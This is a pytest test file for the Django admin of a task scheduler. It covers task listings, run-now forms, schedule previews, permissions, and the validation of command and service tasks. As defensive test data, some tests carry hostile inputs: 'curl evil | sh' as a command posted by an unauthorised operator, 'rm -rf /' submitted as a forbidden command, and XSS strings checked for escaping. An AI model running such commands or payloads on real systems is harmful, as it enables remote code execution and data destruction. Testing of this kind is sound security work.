"""tasks_app/admin/tasks.py: the task list, live cells, the run-now form, the schedule preview."""
from __future__ import annotations

import re
from datetime import timedelta
from html.parser import HTMLParser

import pytest
from django.contrib import admin
from django.contrib.auth.models import User
from django.test import Client

from tasks_app import services
from tasks_app.definitions.validate import build_definition
from tasks_app.models import Event, Run, RunStatus, Task, TaskKind

from ..factories import make_run, make_service, make_task, number, string
from .conftest import staff_client

pytestmark = pytest.mark.django_db


def test_the_task_list_shows_status_schedule_last_run_and_a_chart_of_recent_durations(root_client, clock):
    task = make_task(id="nightly", title="Nightly", cron_string="30 2 * * *", timezone="Europe/Paris")
    services.initialise_schedules(now=clock.now())
    for seconds, reason in [(4, "success"), (8, "failed"), (2, "success")]:
        started = clock.advance(minutes=1)
        make_run(task, end_reason=reason, created_at=started, started_at=started,
                 ended_at=started + timedelta(seconds=seconds))
    make_task(id="on_demand")

    page = root_client.get("/admin/tasks_app/task/").content.decode()

    row = page[page.index('data-live-fragment="status:nightly"'):page.index('data-live-fragment="status:on_demand"')]
    assert "td-badge-idle" in row  # the latest ended run succeeded
    assert "cron 30 2 * * * (Europe/Paris)" in row and "next <time" in row
    assert 'href="/admin/tasks_app/run/' in row and "td-badge-completed" in row
    bars = re.findall(r'<rect x="\d+" y="\d+" width="5" height="(\d+)" class="td-bar td-bar-(\w+)">', row)
    assert bars == [("11", "completed"), ("22", "failed"), ("6", "completed")]  # oldest first, scaled to 8 s
    assert "on demand" in page and "no runs yet" in page


def test_the_live_endpoint_sends_the_cells_of_the_tasks_asked_for(root_client):
    task = make_task(id="busy", max_concurrent=2)
    services.trigger(task, source="api", requested_by="test")
    make_task(id="other")

    body = root_client.get("/admin/tasks_app/task/live/?keys=busy").json()
    page = root_client.get("/admin/tasks_app/task/live/?keys=busy,other&history=1").json()

    assert set(body["fragments"]) == {"status:busy", "schedule:busy", "last_run:busy", "chart:busy"}
    assert "Queued" in body["fragments"]["status:busy"]
    assert "1 of 1" in page["fragments"]["history:busy"] and "No runs yet." in page["fragments"]["history:other"]
    assert root_client.get("/admin/tasks_app/task/live/?keys=").json() == {"fragments": {}}


def test_the_run_now_form_is_built_from_the_parameters(root_client):
    make_task(id="scan", supports_dry_run=True, parameters=[
        string("platform", choices=["gba", "snes"]),
        string("folders", choices=["roms", "saves"], allow_custom=True),
        {**number("limit"), "required": True, "description": "Files at most"},
        {"key": "verbose", "type": "boolean", "default": True},
    ])

    page = root_client.get("/admin/tasks_app/task/scan/run/").content.decode()

    assert re.search(r'<select name="param_platform" id="id_param_platform">\s*<option value="" selected>\(default\)'
                     r'</option>\s*<option value="gba">gba</option>\s*<option value="snes">snes</option>', page)
    assert 'list="id_param_folders-choices"' in page and '<datalist id="id_param_folders-choices">' in page
    assert '<label for="id_param_limit" class="required">limit:</label>' in page
    assert '<input type="number" name="param_limit" step="any" required' in page and "Files at most" in page
    assert re.search(r'<input type="checkbox" name="param_verbose" id="id_param_verbose" checked', page)
    assert 'name="dry_run"' in page and 'name="force"' in page


def test_running_from_the_form_triggers_with_its_values_and_opens_the_run(root_client):
    make_task(id="my_scan", supports_dry_run=True, parameters=[string("platform", choices=["gba", "snes"]), number("pace", 0.5)])
    change_page = root_client.get("/admin/tasks_app/task/my_5Fscan/change/").content.decode()
    assert 'href="/admin/tasks_app/task/my_5Fscan/run/"' in change_page  # the admin quotes "_" in URLs

    response = root_client.post("/admin/tasks_app/task/my_5Fscan/run/", {"param_platform": "snes", "param_pace": "",
                                                                          "dry_run": "on"})

    run = Run.objects.get(task_id="my_scan")
    assert response.status_code == 302 and response["Location"] == f"/admin/tasks_app/run/{run.pk}/change/"
    assert run.parameters == {"platform": "snes", "pace": 0.5} and run.dry_run and run.triggered_by == "user:root"


def test_bad_values_come_back_as_form_errors_and_start_nothing(root_client):
    make_task(id="scan", parameters=[{**number("limit"), "required": True}])
    disabled = make_task(id="off", enabled=False)

    page = root_client.post("/admin/tasks_app/task/scan/run/", {"param_limit": "many"}).content.decode()
    assert re.search(r'<ul class="errorlist[^"]*"[^>]*><li>Must be a number.</li></ul>', page)
    page = root_client.post("/admin/tasks_app/task/scan/run/", {"param_limit": ""}).content.decode()
    assert "This field is required." in page
    page = root_client.post(f"/admin/tasks_app/task/{disabled.pk}/run/", {}).content.decode()
    assert 'class="errornote"' in page and "disabled" in page
    assert not Run.objects.exists()


def test_the_schedule_preview_shows_the_next_five_fire_times_of_unsaved_values(root_client, clock):
    make_task(id="report")
    url = "/admin/tasks_app/task/report/schedule-preview/"

    cron = root_client.get(url, {"cron_string": "0 9 * * 1", "timezone": "Europe/Paris", "interval": "",
                                 "interval_unit": ""}).json()
    every = root_client.get(url, {"cron_string": "", "timezone": "UTC", "interval": "90",
                                  "interval_unit": "minutes"}).json()
    wrong = root_client.get(url, {"cron_string": "61 * * * *", "timezone": "Mars/Olympus", "interval": "",
                                  "interval_unit": ""}).json()

    assert len(cron["times"]) == 5 and cron["times"][0]["text"].endswith("Mon 09:00 Europe/Paris")
    assert cron["describe"] == "cron 0 9 * * 1 (Europe/Paris)"
    assert [time["iso"] for time in every["times"][:2]] == [
        (clock.now() + timedelta(minutes=90 * step)).isoformat() for step in (1, 2)]
    assert wrong["times"] == [] and wrong["errors"]["cron_string"] and wrong["errors"]["timezone"]


def test_staff_act_within_their_permissions_and_never_on_command_tasks():
    python_task = make_task(id="py")
    command_task = make_task(id="cmd", kind=TaskKind.COMMAND, callable="")
    viewer = staff_client("view_task")
    operator = staff_client("view_task", "change_task", "run_task", username="operator")

    listing = viewer.get("/admin/tasks_app/task/").content.decode()
    assert 'value="run_now"' not in listing and 'value="enable"' not in listing
    assert viewer.get("/admin/tasks_app/task/py/run/").status_code == 403
    assert viewer.post("/admin/tasks_app/task/py/run/", {}).status_code == 403

    listing = operator.get("/admin/tasks_app/task/").content.decode()
    assert 'value="run_now"' in listing and 'value="cancel_active"' in listing and 'value="enable"' not in listing
    assert operator.get("/admin/tasks_app/task/add/").status_code == 403
    assert 'name="_save"' in operator.get(f"/admin/tasks_app/task/{python_task.pk}/change/").content.decode()
    command_page = operator.get(f"/admin/tasks_app/task/{command_task.pk}/change/").content.decode()
    assert 'name="_save"' not in command_page  # shown read-only
    response = operator.post(f"/admin/tasks_app/task/{command_task.pk}/change/", {"title": "pwned"})
    assert response.status_code == 403


def test_django_q2s_own_admin_pages_are_gone(root_client):
    from django_q.models import OrmQ, Schedule

    assert not admin.site.is_registered(Schedule) and not admin.site.is_registered(OrmQ)
    assert root_client.get("/admin/django_q/schedule/add/").status_code == 404


def test_task_titles_and_run_messages_are_escaped_in_the_list(root_client):
    task = make_task(id="xss", title="<img src=x onerror=alert(1)>")
    make_run(task, end_reason="failed", progress_message="<script>alert(2)</script>")

    page = root_client.get("/admin/tasks_app/task/").content.decode()

    assert "<img src=x" not in page and "&lt;img src=x onerror=alert(1)&gt;" in page
    assert RunStatus.FAILED in page


def test_a_task_without_parameters_runs_from_an_empty_form(root_client):
    make_task(id="plain")

    response = root_client.post("/admin/tasks_app/task/plain/run/", {})

    assert response.status_code == 302 and Run.objects.filter(task_id="plain").count() == 1


def test_a_superuser_adds_a_task_naming_its_id_kind_and_callable(root_client):
    form = root_client.get("/admin/tasks_app/task/add/").content.decode()
    assert 'name="id"' in form and 'name="kind"' in form and 'name="callable"' in form

    fields = {"id": "added", "title": "Added", "type": "generic", "kind": "python", "callable": "tests.sample_tasks.noop",
              "source": "admin", "timezone": "UTC", "on_overlap": "skip", "max_concurrent": 1, "queue_max": 0,
              "retry_attempts": 0, "retry_backoff": "exponential", "retry_delay": 30, "catch_up": "latest",
              "max_catch_up_runs": 3, "jitter": 0, "keep_runs": 100, "keep_for": 86400, "parameters": "[]",
              "definition": "{}", "overrides": "[]", "enabled": "on", "manual_run": "on", "interval": 5,
              "interval_unit": "minutes"}
    response = root_client.post("/admin/tasks_app/task/add/", fields)

    assert response.status_code == 302, response.content.decode()[:3000]
    task = Task.objects.get(pk="added")
    assert (task.callable, task.interval) == ("tests.sample_tasks.noop", 5) and task.next_run_at is not None
    assert task.source == "admin"  # its own: a definitions sync never removes it
    assert Event.objects.filter(name="task:updated", task_id="added").exists()
    assert 'name="id"' not in root_client.get("/admin/tasks_app/task/added/change/").content.decode()


def test_a_declared_task_offers_only_the_operator_fields_for_editing(root_client):
    make_task(id="declared", source="code", interval=5, interval_unit="minutes", keep_runs=100)
    make_task(id="made_here", source="admin")

    page = root_client.get("/admin/tasks_app/task/declared/change/").content.decode()
    editable = set(re.findall(r'<(?:input|select|textarea)[^>]* name="(\w+)"', page)) - {"csrfmiddlewaretoken"}
    assert editable - {"_save", "_continue", "_addanother"} == {"enabled", "interval", "interval_unit", "cron_string",
                                                                "timezone"}
    assert "Declared in code (@task): change it there" in page
    assert 'name="keep_runs"' in root_client.get("/admin/tasks_app/task/made_5Fhere/change/").content.decode()


def test_text_that_cannot_be_stored_is_a_form_error_in_the_run_now_and_task_forms(root_client):
    make_task(id="scan", parameters=[string("platforms")], cron_string="0 3 * * *")

    page = root_client.post("/admin/tasks_app/task/scan/run/", {"param_platforms": "gba\x00"}).content.decode()
    assert "Null characters are not allowed." in page and not Run.objects.exists()
    page = root_client.post("/admin/tasks_app/task/scan/change/", {
        "cron_string": "0 3 * * *", "timezone": "E" * 5000, "enabled": "on"}).content.decode()
    assert "Ensure this value has at most 64 characters" in page
    assert Task.objects.get(pk="scan").timezone == "UTC"


# --- Command tasks: the process settings, by superusers only ----------------------------------------


def add_form(**fields):
    """What the add page posts for a new task (a command task unless told otherwise)."""
    return {"id": "backup", "title": "Backup", "type": "generic", "kind": "command", "callable": "",
            "timezone": "UTC", "on_overlap": "skip", "max_concurrent": 1, "queue_max": 0, "retry_attempts": 0,
            "retry_backoff": "exponential", "retry_delay": 30, "catch_up": "latest", "max_catch_up_runs": 3,
            "jitter": 0, "keep_runs": 100, "keep_for": 86400, "parameters": "[]", "definition": "{}",
            "overrides": "[]", "enabled": "on", "manual_run": "on", "supports_cancel": "on", "interval": 5,
            "interval_unit": "minutes", "command": "", "argv": "", "shell": "/bin/sh", "working_dir": "", "user": "",
            "umask": "", "env": "", "env_file": "", "secrets_file": "", "exit_codes": "[0]", "stop_signal": "SIGTERM",
            "graceful_stop": "5", "log_max_size": "", "log_on_full": "drop_old", **fields}


class FormValues(HTMLParser):
    """What a browser would post from a page's form as it stands (inputs, checkboxes, textareas,
    selects), so an edit keeps everything the test does not change, hidden initials included."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.values: dict[str, str] = {}
        self._open: tuple[str, str] | None = None  # ("textarea" | "select", name)
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attributes = dict(attrs)
        name = attributes.get("name")
        if tag == "input" and name and attributes.get("type") not in ("submit", "button"):
            if attributes.get("type") != "checkbox" or "checked" in attributes:
                self.values[name] = attributes.get("value") or ("on" if attributes.get("type") == "checkbox" else "")
        elif tag in ("textarea", "select") and name:
            self._open = (tag, name)
            self.values[name] = ""
        elif tag == "option" and self._open and "selected" in attributes:
            self.values[self._open[1]] = attributes.get("value") or ""

    def handle_data(self, data: str) -> None:
        if self._open and self._open[0] == "textarea":
            self.values[self._open[1]] += data

    def handle_endtag(self, tag: str) -> None:
        if self._open and tag == self._open[0]:
            if tag == "textarea":
                self.values[self._open[1]] = self.values[self._open[1]].removeprefix("\n")
            self._open = None


def errors_by_field(page: str) -> dict[str, str]:
    """Each field row's error text (the admin renders a field's errors inside its row)."""
    found = {}
    for row in re.findall(r'<div class="form-row[^"]*errors[^"]*field-(\w+)[^"]*">(.*?)</div>\s*</div>', page, re.S):
        found[row[0]] = " ".join(re.findall(r"<li>(.*?)</li>", row[1]))
    return found


def test_a_superuser_adds_a_command_task_with_its_process_settings(root_client, settings, tmp_path):
    settings.TASKDECK = {**settings.TASKDECK, "LOG_MAX_SIZE": 65536}
    env_file = tmp_path / "backup.env"
    env_file.write_text("REGION=eu\n")
    page = root_client.get("/admin/tasks_app/task/add/").content.decode()
    assert '<textarea name="command"' in page and 'name="argv"' in page and 'name="env_file"' in page
    assert '<option value="SIGTERM" selected>SIGTERM</option>' in page
    assert '<option value="drop_old" selected>' in page and "65,536 bytes" in page

    response = root_client.post("/admin/tasks_app/task/add/", add_form(
        command='rsync -a "$SRC" /dst "$@"', env="SRC=/srv\n# a comment\nMODE=fast lane", umask="0o22",
        env_file=str(env_file), secrets_file="/etc/td/backup.env", exit_codes="[3, 0]", stop_signal="SIGINT",
        graceful_stop="2.5", parameters='[{"key": "--dry-run", "type": "boolean"}]'))

    assert response.status_code == 302, errors_by_field(response.content.decode())
    task = Task.objects.get(pk="backup")
    assert task.process == {
        "command": 'rsync -a "$SRC" /dst "$@"', "argv": None, "shell": "/bin/sh", "working_dir": "", "user": "",
        "umask": "0022", "env": {"SRC": "/srv", "MODE": "fast lane"}, "env_file": str(env_file),
        "secrets_file": "/etc/td/backup.env", "exit_codes": [0, 3], "stop_signal": "SIGINT", "graceful_stop": 2.5,
        "log_max_size": 65536, "log_on_full": "drop_old",
    }
    assert (task.kind, task.source, task.callable, task.supports_cancel) == ("command", "admin", "", True)
    assert task.parameters[0]["kind"] == "flag" and task.next_run_at is not None
    page = root_client.get("/admin/tasks_app/task/backup/change/").content.decode()
    assert "rsync -a &quot;$SRC&quot; /dst &quot;$@&quot;</textarea>" in page
    assert "SRC=/srv\nMODE=fast lane</textarea>" in page and 'value="[0, 3]"' in page


def test_argv_runs_without_the_shell_offered(root_client):
    response = root_client.post("/admin/tasks_app/task/add/", add_form(argv='["tar", "-czf", "/tmp/b.tgz", "/srv"]',
                                                                        env='{"A": "1"}'))
    assert response.status_code == 302, errors_by_field(response.content.decode())
    process = Task.objects.get(pk="backup").process
    assert (process["argv"], process["command"], process["env"]) == (["tar", "-czf", "/tmp/b.tgz", "/srv"], None,
                                                                     {"A": "1"})


@pytest.mark.parametrize(("fields", "field", "words"), [
    ({"command": "true", "argv": '["true"]'}, "argv", "Give command (shell text) or argv (a list), not both."),
    ({}, "command", "Is required"),
    ({"argv": '["du", 3]'}, "argv", "Item 1: must be a string."),
    ({"argv": '"du -s"'}, "argv", "Must be a non-empty list of strings"),
    ({"argv": "[not json"}, "argv", "Enter a valid JSON."),
    ({"command": "true", "stop_signal": "SIGFOO"}, "stop_signal", "Select a valid choice."),
    ({"command": "true", "umask": "999"}, "umask", "&#x27;999&#x27; is not an octal umask"),
    ({"command": "true", "user": "no_such_user_here"}, "user", "Unknown user"),
    ({"command": "true", "env": "SRC=/srv\njust words"}, "env", "Line 2 is not NAME=value."),
    ({"command": "true", "env": '{"A": 1}'}, "env", "A: must be a string."),
    ({"command": "true", "env_file": "/nonexistent/backup.env"}, "env_file", "No such file"),
    ({"command": "true", "exit_codes": "[256]"}, "exit_codes", "from 0 to 255"),
    ({"command": "true", "graceful_stop": "-1"}, "graceful_stop", "greater than or equal to 0"),
    ({"command": "true", "log_max_size": "0"}, "log_max_size", "greater than or equal to 1"),
    ({"command": "true", "log_on_full": "truncate"}, "log_on_full", "Select a valid choice."),
    ({"command": "true", "callable": "tests.sample_tasks.noop"}, "callable", "leave this empty"),
    ({"command": "true", "supports_cancel": ""}, "supports_cancel", "can always be cancelled"),
    ({"command": "true", "parameters": '[{"key": "--x", "kind": "env"}]'}, "parameters", "variable name"),
    ({"kind": "python", "callable": "tests.sample_tasks.noop", "command": "rm -rf /"}, "command",
     "Only a command or service task runs a command."),
])
def test_bad_process_settings_are_errors_on_their_fields_and_save_nothing(root_client, fields, field, words):
    page = root_client.post("/admin/tasks_app/task/add/", add_form(**fields)).content.decode()
    errors = errors_by_field(page)
    assert words in errors.get(field, ""), errors
    assert not Task.objects.filter(pk="backup").exists()


def test_a_superuser_edits_a_command_task_made_here_through_save_task(root_client):
    assert root_client.post("/admin/tasks_app/task/add/", add_form(command="du -s /srv")).status_code == 302
    Event.objects.all().delete()
    form = FormValues(root_client.get("/admin/tasks_app/task/backup/change/").content.decode()).values
    assert (form["command"], form["graceful_stop"], form["exit_codes"]) == ("du -s /srv", "5.0", "[0]")

    response = root_client.post("/admin/tasks_app/task/backup/change/", {**form, "graceful_stop": "30",
                                                                         "env": "DEPTH=2"})

    assert response.status_code == 302, errors_by_field(response.content.decode())
    task = Task.objects.get(pk="backup")
    assert (task.process["graceful_stop"], task.process["env"], task.process["command"]) == (30, {"DEPTH": "2"},
                                                                                               "du -s /srv")
    assert Event.objects.get(name="task:updated").data["message"] == "Changed: process"
    form = FormValues(root_client.get("/admin/tasks_app/task/backup/change/").content.decode()).values
    root_client.post("/admin/tasks_app/task/backup/change/", {**form, "title": "Nightly backup"})
    assert Event.objects.filter(name="task:updated").last().data["message"] == "Changed: title"
    make_task(id="plain")
    assert 'name="command"' not in root_client.get("/admin/tasks_app/task/plain/change/").content.decode()


def test_a_declared_command_task_shows_its_settings_and_offers_only_the_operator_fields(root_client):
    definition = build_definition("disk_usage", {"kind": "command", "command": 'du -s "$TARGET"', "interval": 15,
                                                 "env": {"TARGET": "var/library"}, "secrets_file": "/etc/td/s.env"},
                                  source="file")
    services.sync_definitions([definition])

    page = root_client.get("/admin/tasks_app/task/disk_5Fusage/change/").content.decode()

    editable = set(re.findall(r'<(?:input|select|textarea)[^>]* name="(\w+)"', page)) - {"csrfmiddlewaretoken"}
    assert editable - {"_save", "_continue", "_addanother"} == {"enabled", "interval", "interval_unit", "cron_string",
                                                                "timezone"}
    assert "<th>command</th><td><code>du -s &quot;$TARGET&quot;</code></td>" in page
    assert '<code>{&quot;TARGET&quot;: &quot;var/library&quot;}</code>' in page and "/etc/td/s.env" in page
    assert "Declared in the definitions file: change it there" in page


def test_only_superusers_add_or_change_command_tasks():
    root = Client()
    root.force_login(User.objects.create_superuser("root", password="x"))
    assert root.post("/admin/tasks_app/task/add/", add_form(command="du -s /srv")).status_code == 302
    before = Task.objects.get(pk="backup").process
    operator = staff_client("view_task", "add_task", "change_task", "run_task", "manage_task", username="operator")

    assert operator.get("/admin/tasks_app/task/add/").status_code == 403
    assert operator.post("/admin/tasks_app/task/add/", add_form(id="mine", command="id")).status_code == 403
    page = operator.get("/admin/tasks_app/task/backup/change/")
    assert page.status_code == 200 and 'name="_save"' not in page.content.decode()
    assert "<th>command</th><td><code>du -s /srv</code></td>" in page.content.decode()  # shown, read-only
    response = operator.post("/admin/tasks_app/task/backup/change/", {**add_form(command="curl evil | sh")})
    assert response.status_code == 403
    assert Task.objects.get(pk="backup").process == before and not Task.objects.filter(pk="mine").exists()


# --- Service tasks: their service settings too, by superusers only ------------------------------------


def service_form(**fields):
    """What the add page posts for a new service: no schedule, Manual run ticked as offered, the
    service fields as offered."""
    form = add_form(id="web", kind="service", interval="", interval_unit="", command="python3 -m http.server 8765",
                    instances="1", autostart="True", restart="on_failure", restart_backoff="exponential",
                    restart_delay="1", start_retries="3", healthy_after="10", depends_on="", priority="0",
                    health_check="")
    return {**form, **fields}


def test_a_superuser_adds_and_edits_a_service_with_its_settings(root_client):
    make_service(id="db", process={"argv": ["postgres"]})
    page = root_client.get("/admin/tasks_app/task/add/").content.decode()
    assert 'class="fieldset-heading">Service</h2>' in page and 'name="instances"' in page
    assert '<option value="on_failure" selected>' in page and '<option value="True" selected>Yes</option>' in page

    response = root_client.post("/admin/tasks_app/task/add/", service_form(
        instances="3", autostart="False", restart="always", restart_delay="0.5", depends_on='["db"]', priority="-1",
        health_check='{"http": "http://127.0.0.1:8765/", "interval": 10}', stop_signal="SIGINT", timeout="0"))

    assert response.status_code == 302, errors_by_field(response.content.decode())
    task = Task.objects.get(pk="web")
    assert task.process == {
        "command": "python3 -m http.server 8765", "argv": None, "shell": "/bin/sh", "working_dir": "", "user": "",
        "umask": "", "env": {}, "env_file": "", "secrets_file": "", "exit_codes": [0], "stop_signal": "SIGINT",
        "graceful_stop": 5, "log_max_size": task.process["log_max_size"], "log_on_full": "drop_old",
        "instances": 3, "autostart": False, "restart": "always", "restart_backoff": "exponential",
        "restart_delay": 0.5, "start_retries": 3, "healthy_after": 10, "depends_on": ["db"], "priority": -1,
        "health_check": {"http": "http://127.0.0.1:8765/", "interval": 10, "timeout": 5, "retries": 3},
        "compose": None,
    }
    assert (task.kind, task.source, task.manual_run, task.timeout, task.supports_cancel) == ("service", "admin", False,
                                                                                             None, True)
    assert task.next_run_at is None

    Event.objects.all().delete()
    form = FormValues(root_client.get("/admin/tasks_app/task/web/change/").content.decode()).values
    assert (form["instances"], form["autostart"], form["depends_on"], form["restart"]) == ("3", "False", '["db"]',
                                                                                          "always")
    response = root_client.post("/admin/tasks_app/task/web/change/", {**form, "instances": "2", "health_check": ""})
    assert response.status_code == 302, errors_by_field(response.content.decode())
    task.refresh_from_db()
    assert (task.process["instances"], task.process["health_check"], task.process["restart"]) == (2, None, "always")
    assert Event.objects.get(name="task:updated").data["message"] == "Changed: process"


def test_a_superuser_edits_an_imported_service_and_its_compose_provenance_survives(root_client):
    compose = {"file": "docker-compose.yml", "project_name": "media", "service": "web"}
    make_service(id="media_web", source="compose", process={"command": "docker compose run web", "compose": compose})
    page = root_client.get("/admin/tasks_app/task/media_5Fweb/change/").content.decode()
    assert "Imported (Compose import): importing its file again writes over edits made here." in page
    form = FormValues(page).values
    assert "compose" not in form  # only the importers write it
    response = root_client.post("/admin/tasks_app/task/media_5Fweb/change/", {**form, "instances": "4"})
    assert response.status_code == 302, errors_by_field(response.content.decode())
    process = Task.objects.get(pk="media_web").process
    assert (process["instances"], process["compose"]) == (4, compose)


NO_SCHEDULE = "A service has no schedule: its supervisor keeps it running."


@pytest.mark.parametrize(("fields", "field", "words"), [
    ({"instances": "0"}, "instances", "greater than or equal to 1"),
    ({"instances": "65"}, "instances", "less than or equal to 64"),
    ({"autostart": "maybe"}, "autostart", "Select a valid choice."),
    ({"restart": "unless-stopped"}, "restart", "Select a valid choice."),
    ({"restart_delay": "-1"}, "restart_delay", "greater than or equal to 0"),
    ({"depends_on": '"db"'}, "depends_on", "Must be a list of service ids, like [&quot;database&quot;]."),
    ({"depends_on": '["web"]'}, "depends_on", "A service cannot depend on itself."),
    ({"depends_on": '["nope"]'}, "depends_on", "Unknown task &#x27;nope&#x27;."),
    ({"depends_on": '["report"]'}, "depends_on", "&#x27;report&#x27; is a python task, not a service."),
    ({"depends_on": '["db"]'}, "depends_on", "Forms a cycle: web -&gt; db -&gt; web."),
    ({"health_check": '{"interval": 5}'}, "health_check", "Needs command (shell text) or http (a URL)."),
    ({"health_check": '{"http": "ftp://x/"}'}, "health_check", "Http: &#x27;ftp://x/&#x27; is not an http:// or"),
    ({"health_check": '{"command": "true", "retries": 0}'}, "health_check", "Retries: must be a whole number &gt;= 1."),
    ({"health_check": '["curl"]'}, "health_check", "Must be a table, like"),
    ({"command": "", "argv": ""}, "command", "Is required"),
    ({"cron_string": "* * * * *"}, "cron_string", NO_SCHEDULE),
    ({"interval": "5", "interval_unit": "minutes"}, "interval", NO_SCHEDULE),
    ({"timezone": "Europe/Paris"}, "timezone", NO_SCHEDULE),
    ({"run_on_start": "on"}, "run_on_start", "A service starts with autostart, not run_on_start."),
    ({"timeout": "3600"}, "timeout", "A service runs until it is stopped: it has no timeout."),
    ({"retry_attempts": "2"}, "retry_attempts", "A service is restarted (restart, restart_backoff, restart_delay)"),
    ({"on_overlap": "queue"}, "on_overlap", "never skipped, queued or terminated."),
    ({"max_concurrent": "3"}, "max_concurrent", "A service runs as many processes as its instances."),
    ({"supports_dry_run": "on"}, "supports_dry_run", "A service cannot be told it is a dry run."),
    ({"supports_cancel": ""}, "supports_cancel", "A service&#x27;s runs can always be stopped."),
    ({"parameters": '[{"key": "PORT", "kind": "env"}]'}, "parameters", "The supervisor starts a service without"),
    ({"callable": "tests.sample_tasks.noop"}, "callable", "A service runs command or argv, not a callable."),
])
def test_bad_service_settings_are_errors_on_their_fields_and_save_nothing(root_client, fields, field, words):
    make_task(id="report")
    make_service(id="db", process={"argv": ["postgres"], "depends_on": ["web"]})  # web -> db -> web
    page = root_client.post("/admin/tasks_app/task/add/", service_form(**fields)).content.decode()
    errors = errors_by_field(page)
    assert words in errors.get(field, ""), errors
    assert not Task.objects.filter(pk="web").exists()


def test_a_new_service_leaves_manual_run_as_offered_but_an_edit_cannot_tick_it(root_client):
    """Manual run is ticked for every new task: a new service left so is not run on demand; ticked
    on a service's own page, it is an error."""
    response = root_client.post("/admin/tasks_app/task/add/", service_form())
    assert response.status_code == 302, errors_by_field(response.content.decode())
    assert Task.objects.get(pk="web").manual_run is False
    form = FormValues(root_client.get("/admin/tasks_app/task/web/change/").content.decode()).values
    assert "manual_run" not in form  # unticked
    page = root_client.post("/admin/tasks_app/task/web/change/", {**form, "manual_run": "on"}).content.decode()
    assert errors_by_field(page)["manual_run"] == "A service is not run on demand: it is started, stopped and restarted."
    assert Task.objects.get(pk="web").manual_run is False


@pytest.mark.parametrize(("fields", "field"), [
    ({"instances": "3"}, "instances"), ({"depends_on": '["db"]'}, "depends_on"), ({"autostart": "False"}, "autostart"),
    ({"health_check": '{"command": "true"}'}, "health_check"), ({"restart": "never"}, "restart"),
])
def test_a_command_task_with_a_service_setting_is_refused(root_client, fields, field):
    page = root_client.post("/admin/tasks_app/task/add/", add_form(command="du -s /srv", **fields)).content.decode()
    assert errors_by_field(page).get(field) == "Applies to service tasks only."
    assert not Task.objects.filter(pk="backup").exists()
    as_offered = {"instances": "1", "autostart": "True", "restart": "on_failure", "depends_on": "", "priority": "0"}
    assert root_client.post("/admin/tasks_app/task/add/", add_form(command="du", **as_offered)).status_code == 302


def test_a_declared_service_shows_its_settings_and_takes_no_schedule(root_client):
    definition = build_definition("heartbeat_service", {
        "kind": "service", "argv": ["python3", "-m", "http.server", "8765"], "depends_on": [],
        "health_check": {"http": "http://127.0.0.1:8765/"}}, source="file")
    services.sync_definitions([definition])

    page = root_client.get("/admin/tasks_app/task/heartbeat_5Fservice/change/").content.decode()

    editable = set(re.findall(r'<(?:input|select|textarea)[^>]* name="(\w+)"', page)) - {"csrfmiddlewaretoken"}
    assert editable - {"_save", "_continue", "_addanother"} == {"enabled", "interval", "interval_unit", "cron_string",
                                                                "timezone"}
    assert "<th>instances</th><td><code>1</code></td>" in page and "<th>restart</th><td><code>on_failure</code>" in page
    assert "&quot;http&quot;: &quot;http://127.0.0.1:8765/&quot;" in page
    form = FormValues(page).values
    for change, field in (({"cron_string": "*/5 * * * *"}, "cron_string"),
                          ({"interval": "5", "interval_unit": "minutes"}, "interval")):
        response = root_client.post("/admin/tasks_app/task/heartbeat_5Fservice/change/", {**form, **change})
        assert errors_by_field(response.content.decode()).get(field) == NO_SCHEDULE
    task = Task.objects.get(pk="heartbeat_service")
    assert (task.cron_string, task.interval, task.next_run_at, task.overrides) == ("", None, None, [])
    response = root_client.post("/admin/tasks_app/task/heartbeat_5Fservice/change/", {**form, "enabled": ""})
    assert response.status_code == 302 and not Task.objects.get(pk="heartbeat_service").enabled  # that it may change


def test_only_superusers_add_or_change_service_tasks():
    root = Client()
    root.force_login(User.objects.create_superuser("root", password="x"))
    assert root.post("/admin/tasks_app/task/add/", service_form()).status_code == 302
    before = Task.objects.get(pk="web").process
    operator = staff_client("view_task", "add_task", "change_task", "run_task", "manage_task", username="operator")

    assert operator.post("/admin/tasks_app/task/add/", service_form(id="mine")).status_code == 403
    page = operator.get("/admin/tasks_app/task/web/change/")
    assert page.status_code == 200 and 'name="_save"' not in page.content.decode()
    assert "<th>instances</th><td><code>1</code></td>" in page.content.decode()  # shown, read-only
    response = operator.post("/admin/tasks_app/task/web/change/", service_form(command="curl evil | sh", instances="9"))
    assert response.status_code == 403
    assert Task.objects.get(pk="web").process == before and not Task.objects.filter(pk="mine").exists()


def test_running_a_service_from_the_admin_says_to_restart_it(root_client):
    make_service(id="web")
    page = root_client.post("/admin/tasks_app/task/web/run/", {}).content.decode()
    assert "Task &#x27;web&#x27; is a service, kept running by its supervisor: restart it, do not run it." in page
    response = root_client.post("/admin/tasks_app/task/", {"action": "run_now", "_selected_action": ["web"]},
                                follow=True)
    assert "restart it, do not run it." in response.content.decode()
    assert not Run.objects.exists()
